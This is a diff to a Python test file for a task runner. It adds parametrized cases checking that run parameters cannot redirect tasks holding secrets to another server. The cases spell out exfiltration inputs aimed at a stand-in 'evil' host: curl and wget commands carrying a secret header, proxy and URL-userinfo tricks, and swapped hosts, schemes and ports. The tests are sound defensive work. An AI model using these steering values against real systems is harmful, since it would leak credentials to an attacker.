@@ -12,8 +12,10 @@ from tests.cases import for_each
 from tests.tasks.scene import keep, noop, runs_of
 from weft.app import App
 from weft.errors import Invalid
-from weft.tasks.model import Task
-from weft.tasks.parameters import fill, from_text, resolve
+from weft.runs.model import Trigger
+from weft.tasks.model import Task, fill, from_text, resolve
+
+KEY = {"X-Shop": "{{secret:TOKEN}}"}
 
 
 def test_a_value_that_is_given_wins_over_the_default() -> None:
@@ -113,6 +115,52 @@ def test_values_cannot_name_a_secret_together_with_what_is_around_them(text: str
 def test_a_task_names_secrets_in_its_spec_and_in_defaults() -> None:
     spec = {"url": "https://{{host}}/?t={{secret:TOKEN}}"}
     assert fill(spec, {"host": "{{secret:HOST}}"}) == {"url": "https://{{secret:HOST}}/?t={{secret:TOKEN}}"}
+
+
+CURL = ["curl", "-H", "X-Key: {{secret:T}}"]
+STEERED: dict[str, tuple[str, dict[str, Any], dict[str, Any], dict[str, Any]]] = {
+    "the host": ("http", {"url": "https://{{host}}/p", "headers": KEY}, {"host": "a.example"}, {"host": "evil"}),
+    "all of it": ("http", {"url": "{{url}}", "body": "{{secret:T}}"}, {"url": None}, {"url": "https://evil/"}),
+    "after the host": ("http", {"url": "https://a.example{{path}}", "headers": KEY}, {"path": ""}, {"path": "@evil/"}),
+    "the scheme": ("http", {"url": "{{s}}://a.example/", "headers": KEY}, {"s": "https"}, {"s": "http"}),
+    "the port": ("http", {"url": "http://a.example:{{port}}/", "headers": KEY}, {"port": 80}, {"port": 8080}),
+    "a secret in the URL": ("http", {"url": "https://{{host}}/?t={{secret:T}}"}, {"host": "a"}, {"host": "evil"}),
+    "a login": ("http", {"url": "https://me:pw@{{host}}/"}, {"host": "a.example"}, {"host": "evil"}),
+    "a header as it is": ("http", {"url": "https://{{h}}/", "headers": {"X-Api-Key": "k"}}, {"h": "a"}, {"h": "evil"}),
+    "a default": ("http", {"url": "//{{h}}/", "body": "{{b}}"}, {"h": "a", "b": "{{secret:T}}"}, {"h": "e"}),
+    "a token": ("http", {"url": "//{{h}}/", "body": "{{token}}"}, {"h": "a", "token": "as it is"}, {"h": "e"}),
+    "a crawl": ("crawl", {"urls": ["{{url}}"], "fetching": {"password": "{{secret:T}}"}}, {"url": "https://a.example/"},
+                {"url": "https://evil/"}),
+    "one more seed": ("crawl", {"urls": "{{urls}}", "fetching": {"headers": KEY}}, {"urls": ["https://a.example/"]},
+                      {"urls": ["https://a.example/x", "https://evil/"]}),
+    "a URL of a command": ("shell", {"argv": [*CURL, "https://{{h}}/p"]}, {"h": "a.example"}, {"h": "evil"}),
+    "all of a URL of a command": ("shell", {"argv": [*CURL, "{{u}}"]}, {"u": "https://a.example/"}, {"u": "https://e/"}),
+    "a URL that is none": ("shell", {"argv": [*CURL, "{{u}}"]}, {"u": "https://a.example/"}, {"u": "evil"}),
+    "a URL with one slash": ("shell", {"argv": [*CURL, "{{u}}"]}, {"u": "https://a.example/"}, {"u": "http:/evil"}),
+    "a URL in an option": ("shell", {"argv": [*CURL, "--url=https://{{h}}"]}, {"h": "a.example"}, {"h": "evil"}),
+    "a proxy of a command": ("shell", {"argv": [*CURL, "-x{{p}}", "https://a/"]}, {"p": ""}, {"p": "socks5://evil"}),
+    "a command with a login": ("shell", {"argv": ["wget", "ftp://me:pw@{{h}}/"]}, {"h": "a.example"}, {"h": "evil"}),
+    "the environment": ("shell", {"script": "x", "env": {"T": "{{secret:T}}", "AT": "https://{{h}}/"}}, {"h": "a"},
+                        {"h": "evil"}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("kind", "spec", "defaults", "given"), STEERED.values(), ids=STEERED)
+def test_a_start_cannot_send_a_secret_to_another_server(
+    kind: str, spec: dict[str, Any], defaults: dict[str, Any], given: dict[str, Any]
+) -> None:
+    task = Task(name="t", kind=kind, spec=spec, params=defaults)
+    with pytest.raises(Invalid, match="the task has secrets, which go only to the servers that it names itself"):
+        task.new_run(1, Trigger.MANUAL, given)
+
+
+def test_a_start_may_change_what_sends_no_secret_elsewhere() -> None:
+    spec = {"url": "https://{{host}}/{{page}}?q={{page}}", "headers": KEY}
+    task = Task(name="t", kind="http", spec=spec, params={"host": "a.example", "page": None})
+    run = task.new_run(1, Trigger.MANUAL, {"host": "a.example", "page": "x//evil.example/"})
+    assert run.spec.spec["url"] == "https://a.example/x//evil.example/?q=x//evil.example/"
+    public = Task(name="t", kind="http", spec={"url": "https://{{host}}/"}, params={"host": "a.example"})
+    assert public.new_run(1, Trigger.MANUAL, {"host": "b.example"}).spec.spec["url"] == "https://b.example/"
 
 
 def test_braces_that_name_nothing_stay() -> None:
